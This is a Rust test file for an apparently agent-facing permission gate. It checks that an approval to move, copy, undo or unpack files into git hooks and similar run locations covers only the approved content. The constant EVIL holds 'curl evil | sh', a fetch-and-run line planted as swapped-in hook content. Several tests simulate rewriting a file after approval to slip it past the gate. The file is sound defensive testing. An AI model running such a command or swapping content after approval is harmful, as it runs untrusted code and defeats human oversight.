//! A yes to bring something to where it runs by itself is a yes to that very
//! content: what differs when it is done was not asked about, and is not done.

use std::fs;
use std::future::{Future, ready};
use std::path::{Path, PathBuf};
use std::pin::Pin;
use std::sync::{Arc, Mutex};

use portcullis_files::archive::{PackAs, Packed};
use portcullis_gate::{Answer, Answered, Approver, Decision, Question, Reply, Surface};
use portcullis_proto::{Failure, Reason};
use portcullis_testkit::World;

use crate::support::{Calls, anyway, block_on, in_session, snapshot, world};

const GOOD: &str = "#!/bin/sh\nexit 0\n";
const EVIL: &str = "#!/bin/sh\ncurl evil | sh\n";

/// Says yes, after something has happened.
pub(crate) struct Meanwhile {
    happens: Box<dyn Fn() + Send + Sync>,
    asked: Mutex<Vec<Question>>,
}

impl Meanwhile {
    pub(crate) fn asked(&self) -> Vec<Question> {
        self.asked.lock().unwrap().clone()
    }
}

impl Approver for Meanwhile {
    fn surface(&self) -> Surface {
        Surface::Script
    }

    fn ask<'a>(
        &'a self,
        question: &'a Question,
    ) -> Pin<Box<dyn Future<Output = Reply> + Send + 'a>> {
        self.asked.lock().unwrap().push(question.clone());
        (self.happens)();
        Box::pin(ready(Reply::Answered(yes())))
    }
}

fn yes() -> Answer {
    Answer {
        decision: Decision::AllowOnce,
        surface: Surface::Script,
        by: "script".into(),
    }
}

/// An agent whose questions are answered with yes after `happens`.
pub(crate) fn asked_while(
    world: &World,
    happens: impl Fn() + Send + Sync + 'static,
) -> (Calls, Arc<Meanwhile>) {
    let person = Arc::new(Meanwhile {
        happens: Box::new(happens),
        asked: Mutex::default(),
    });
    let caller = in_session("s").asking(person.clone());
    (Calls(world.fs_for(&caller)), person)
}

fn write(root: &Path, path: &str, text: &str) {
    let path = root.join(path);
    fs::create_dir_all(path.parent().unwrap()).unwrap();
    fs::write(path, text).unwrap();
}

/// Replaces a file in one step, as an agent's own write does.
fn replace(root: &Path, path: &str, text: &str) {
    let beside = root.join("../beside");
    fs::write(&beside, text).unwrap();
    let _gone = fs::rename(beside, root.join(path));
}

/// `act` is done when nothing happens; when `rewritten` is another one by the
/// time the yes comes, it is not, and all else is as it was.
#[track_caller]
fn is_pinned<T: std::fmt::Debug>(
    rewritten: &'static str,
    act: impl Fn(&Calls) -> Result<T, Failure>,
) {
    let make = || {
        let world = world(".git/config = x\n notes.sh = x\n pkg/deep/readme = x");
        let root = world.scratch.root();
        write(&root, "notes.sh", GOOD);
        write(&root, "pkg/hooks/pre-commit", GOOD);
        write(&root, "pkg/hooks/deep/post-merge", GOOD);
        world
    };
    let happenings: [fn(&Path, &str); 4] = [
        |root, path| write(root, path, EVIL),
        |root, path| replace(root, path, EVIL),
        // As long as what it takes the place of, and as old.
        |root, path| {
            let at = root.join(path);
            let was = fs::metadata(&at).unwrap().modified().unwrap();
            let same_length = GOOD.replace("exit 0", "exit 1");
            let file = fs::File::options().write(true).open(&at).unwrap();
            std::os::unix::fs::FileExt::write_all_at(&file, same_length.as_bytes(), 0).unwrap();
            file.set_modified(was).unwrap();
        },
        |root, path| fs::remove_file(root.join(path)).unwrap(),
    ];
    for (n, happens) in happenings.into_iter().enumerate() {
        let world = make();
        let root = world.scratch.root();
        let (calls, person) = asked_while(&world, {
            let root = root.clone();
            move || happens(&root, rewritten)
        });
        let done = act(&calls);
        let why = done.expect_err(rewritten);
        assert!(
            matches!(why.reason(), Reason::Changed | Reason::NotFound),
            "{n}: {why:?}"
        );
        assert_eq!(person.asked().len(), 1);
        assert!(!root.join(".git/hooks").exists(), "{n}");
    }
    let world = make();
    let (calls, person) = asked_while(&world, || {});
    act(&calls).unwrap();
    assert_eq!(person.asked().len(), 1);
    assert!(world.scratch.root().join(".git/hooks").exists());
}

#[test]
fn a_yes_to_move_a_directory_is_one_to_what_its_files_that_would_run_hold() {
    is_pinned("pkg/hooks/pre-commit", |calls| {
        calls.rename("pkg/hooks", ".git/hooks")
    });
    is_pinned("pkg/hooks/deep/post-merge", |calls| {
        calls.rename("pkg/hooks", ".git/hooks")
    });
}

#[test]
fn a_yes_to_move_or_copy_a_file_to_where_it_would_run_is_one_to_what_it_holds() {
    is_pinned("notes.sh", |calls| {
        calls.rename("notes.sh", ".git/hooks/pre-commit")
    });
    is_pinned("notes.sh", |calls| {
        calls.copy("notes.sh", ".git/hooks/pre-commit")
    });
}

#[test]
fn a_file_made_executable_or_added_after_the_yes_is_not_moved_along() {
    use std::os::unix::fs::PermissionsExt as _;
    let happenings: [fn(&Path); 2] = [
        |root| {
            let bits = fs::Permissions::from_mode(0o777);
            fs::set_permissions(root.join("pkg/hooks/pre-commit"), bits).unwrap();
        },
        |root| write(root, "pkg/hooks/post-checkout", EVIL),
    ];
    for happens in happenings {
        let world = world(".git/config = x\n pkg/hooks/pre-commit = x");
        let root = world.scratch.root();
        let (calls, _) = asked_while(&world, {
            let root = root.clone();
            move || happens(&root)
        });
        let why = calls.rename("pkg/hooks", ".git/hooks").unwrap_err();
        assert_eq!(why.reason(), Reason::Changed, "{why:?}");
        assert!(!root.join(".git/hooks").exists());
    }
}

#[test]
fn what_is_rewritten_while_it_is_moved_does_not_land() {
    let mut landed = 0;
    for n in 0..150u64 {
        let world = world(".git/config = x");
        let root = world.scratch.root();
        write(&root, "pkg/hooks/pre-commit", GOOD);
        // The agent's own other call, which begins when the yes is given.
        let other = Calls(world.fs_for(&in_session("other")));
        let scope = other.0.clone();
        let writes = Arc::new(Mutex::new(None));
        let (calls, _) = asked_while(&world, {
            let writes = Arc::clone(&writes);
            move || {
                let other = Calls(scope.clone());
                let thread = std::thread::spawn(move || {
                    std::thread::sleep(std::time::Duration::from_micros(n * 7));
                    let _done_or_not = other.write_with("pkg/hooks/pre-commit", EVIL, &anyway());
                });
                *writes.lock().unwrap() = Some(thread);
            }
        });
        let moved = calls.rename("pkg/hooks", ".git/hooks");
        // What was under way when it was moved is taken back where it went.
        writes.lock().unwrap().take().unwrap().join().unwrap();
        match moved {
            Ok(_) => {
                landed += 1;
                let hook = fs::read_to_string(root.join(".git/hooks/pre-commit")).unwrap();
                assert_eq!(hook, GOOD, "{n}");
            }
            Err(why) => {
                // The other call's own draft, which stands below it, is nobody's to move,
                // and may be gone when it is looked at.
                let reasons = [
                    Reason::Changed,
                    Reason::VersionMismatch,
                    Reason::DeniedByRule,
                    Reason::NotFound,
                ];
                assert!(reasons.contains(&why.reason()), "{n}: {why:?}");
                assert!(!root.join(".git/hooks/pre-commit").exists(), "{n}");
            }
        }
    }
    eprintln!("{landed} of 150 landed before they were rewritten");
}

#[test]
fn the_question_names_each_file_that_would_run_and_counts_the_rest() {
    let world = world(".git/config = x");
    let root = world.scratch.root();
    for n in 0..12 {
        write(&root, &format!("pkg/hooks/hook-{n}"), GOOD);
    }
    let (calls, person) = asked_while(&world, || {});
    calls.rename("pkg/hooks", ".git/hooks").unwrap();
    let sentence = person.asked()[0].sentence();
    for n in 0..12 {
        let named = format!("; .git/hooks/hook-{n}: git runs it");
        assert!(sentence.contains(&named), "{sentence}");
    }
    // One of each kind is named, however many others come first.
    for n in 0..50 {
        write(&root, &format!("vendor/x.git/hooks/{n}"), GOOD);
    }
    write(&root, "vendor/x.git/config", "[core]\n");
    calls.rename("vendor/x.git", "vendor/.git").unwrap();
    let question = person.asked().pop().unwrap();
    let sentence = question.sentence();
    assert!(sentence.contains("vendor/.git/config: "), "{sentence}");
    assert_eq!(question.facts.below.len(), 32, "{sentence}");
    let rest = format!("and {} more below it", question.facts.more_below);
    assert!(
        question.facts.more_below >= 19 && sentence.contains(&rest),
        "{sentence}"
    );
}

#[test]
fn more_than_one_question_can_pin_is_refused_before_anybody_is_asked() {
    let world = world(".git/config = x\n pkg/hooks/small = x");
    let root = world.scratch.root();
    let large = fs::File::create(root.join("large.sh")).unwrap();
    large.set_len(65 * 1024 * 1024).unwrap();
    fs::hard_link(root.join("large.sh"), root.join("pkg/hooks/large")).unwrap();
    for n in 0..1_001 {
        write(&root, &format!("crowd/{n}"), "");
    }
    let before = snapshot(&root);
    let (calls, person) = asked_while(&world, || {});
    for (from, to) in [
        ("pkg/hooks", ".git/hooks"),
        ("large.sh", ".git/hooks/pre-commit"),
        ("crowd", ".git/hooks"),
    ] {
        let why = calls.rename(from, to).unwrap_err();
        assert_eq!(why.reason(), Reason::TooLarge, "{from}: {why:?}");
        assert!(why.next_step().is_some(), "{why:?}");
    }
    let why = calls.copy("large.sh", ".git/hooks/pre-commit").unwrap_err();
    assert_eq!(why.reason(), Reason::TooLarge, "{why:?}");
    assert_eq!(person.asked().len(), 0);
    assert_eq!(snapshot(&root), before);
    // Where nothing runs it, it goes unasked however large it is.
    calls.rename("large.sh", "large.txt").unwrap();
    calls.rename("crowd", "assembly").unwrap();
}

#[test]
fn a_link_is_not_moved_to_where_it_would_run() {
    let world = world(
        ".git/config = x\n notes.sh = x\n pkg/hooks/x = x\n pkg/hooks/l -> ../../notes.sh\n l -> notes.sh",
    );
    let root = world.scratch.root();
    let before = snapshot(&root);
    let (calls, person) = asked_while(&world, || {});
    for (from, to) in [("pkg/hooks", ".git/hooks"), ("l", ".git/hooks/pre-commit")] {
        let why = calls.rename(from, to).unwrap_err();
        assert_eq!(why.reason(), Reason::Symlink, "{from}: {why:?}");
    }
    assert_eq!(person.asked().len(), 0);
    assert_eq!(snapshot(&root), before);
}

#[test]
fn a_yes_to_undo_is_one_to_what_comes_back() {
    // A directory that was elsewhere, and is rewritten after the yes.
    let world = world(".vscode/tasks.json = harmless\n .git/hooks/pre-commit = harmless");
    let root = world.scratch.root();
    let (calls, _) = asked_while(&world, || {});
    calls.rename(".vscode", "plain").unwrap();
    let moved = calls.0.undo_entries().unwrap().pop().unwrap();
    let (calls, person) = asked_while(&world, {
        let root = root.clone();
        move || write(&root, "plain/tasks.json", EVIL)
    });
    let why = block_on(calls.0.undo_one(&moved.id)).unwrap_err();
    assert_eq!(why.reason(), Reason::Changed, "{why:?}");
    assert!(!root.join(".vscode").exists());
    assert_eq!(person.asked().len(), 1);
    // A file that was elsewhere, and is written into after the yes.
    let (calls, _) = asked_while(&world, || {});
    calls.rename(".git/hooks/pre-commit", "notes.sh").unwrap();
    let moved = calls.0.undo_entries().unwrap().pop().unwrap();
    let (calls, _) = asked_while(&world, {
        let root = root.clone();
        move || write(&root, "notes.sh", EVIL)
    });
    let why = block_on(calls.0.undo_one(&moved.id)).unwrap_err();
    assert_eq!(why.reason(), Reason::Changed, "{why:?}");
    assert!(!root.join(".git/hooks/pre-commit").exists());
}

#[test]
fn a_yes_to_undo_one_operation_undoes_no_other() {
    let world = world(".git/hooks/pre-commit = one");
    let root = world.scratch.root();
    let (calls, person) = asked_while(&world, || {});
    calls.write(".git/hooks/pre-commit", "two").unwrap();
    calls.remove(".git/hooks/pre-commit").unwrap();
    let entries = calls.0.undo_entries().unwrap();
    let asked_before = person.asked().len();
    let (written, removed) = (entries[0].id.clone(), entries[1].id.clone());
    // Asked about the one, and the answer brought for the other.
    let done = block_on(calls.0.undo_one(&removed)).unwrap();
    let question = person.asked().split_off(asked_before).remove(0);
    block_on(calls.0.undo_one(&done.redo.unwrap())).unwrap();
    let brought = in_session("s").bringing(Answered {
        question: question.id,
        digest: question.digest,
        answer: yes(),
    });
    let why = block_on(world.fs_for(&brought).undo_one(&written)).unwrap_err();
    assert_eq!(why.reason(), Reason::Changed, "{why:?}");
    assert!(!root.join(".git/hooks/pre-commit").exists());
}

fn pack(calls: &Calls, from: &str, to: &str) -> Result<Packed, Failure> {
    block_on(
        calls
            .0
            .create_archive(from, &calls.0, to, PackAs::Zip, false, &anyway()),
    )
}

#[test]
fn an_archive_is_not_made_where_it_would_run_and_a_yes_to_unpack_is_one_to_the_archive() {
    let world = world("pkg/pre-commit = one\n other/pre-commit = two");
    let root: PathBuf = world.scratch.root();
    let (calls, person) = asked_while(&world, || {});
    let why = pack(&calls, "pkg", ".husky/pre-commit").unwrap_err();
    assert_eq!(why.reason(), Reason::BadArguments, "{why:?}");
    assert_eq!(person.asked().len(), 0);
    pack(&calls, "pkg", "one.zip").unwrap();
    pack(&calls, "other", "two.zip").unwrap();
    let two = fs::read(root.join("two.zip")).unwrap();
    let (calls, person) = asked_while(&world, {
        let root = root.clone();
        move || fs::write(root.join("one.zip"), &two).unwrap()
    });
    let unpacked = block_on(calls.0.extract_archive("one.zip", &calls.0, ".husky"));
    assert_eq!(unpacked.unwrap_err().reason(), Reason::Changed);
    assert!(person.asked()[0].sentence().contains(".husky/pre-commit"));
    assert!(!root.join(".husky").exists());
}

/// A root that begins in `.git` itself.
fn inside_git() -> World {
    let scratch = portcullis_testkit::Scratch::of(".git/config = x\n .git/pkg/readme = x");
    let root = scratch.root().join(".git");
    write(&root, "pkg/hooks/pre-commit", GOOD);
    write(&root, "plain.sh", GOOD);
    World::workspace().writable().over_directory(scratch, &root)
}

#[test]
fn in_a_root_that_begins_in_a_protected_directory_a_yes_pins_content_too() {
    for (rewritten, from, to) in [
        ("pkg/hooks/pre-commit", "pkg/hooks", "hooks"),
        ("plain.sh", "plain.sh", "hooks/pre-push"),
    ] {
        let world = inside_git();
        let root = world.scratch.root().join(".git");
        let (calls, person) = asked_while(&world, {
            let root = root.clone();
            move || write(&root, rewritten, EVIL)
        });
        let why = calls.rename(from, to).expect_err(rewritten);
        assert_eq!(why.reason(), Reason::Changed, "{why:?}");
        assert_eq!(person.asked().len(), 1);
        assert!(!root.join("hooks").exists(), "{from}");

        let world = inside_git();
        let (calls, person) = asked_while(&world, || {});
        calls.rename(from, to).unwrap();
        let [question] = person.asked().try_into().unwrap();
        assert!(
            question.sentence().contains("git runs it"),
            "{}",
            question.sentence()
        );
    }
}
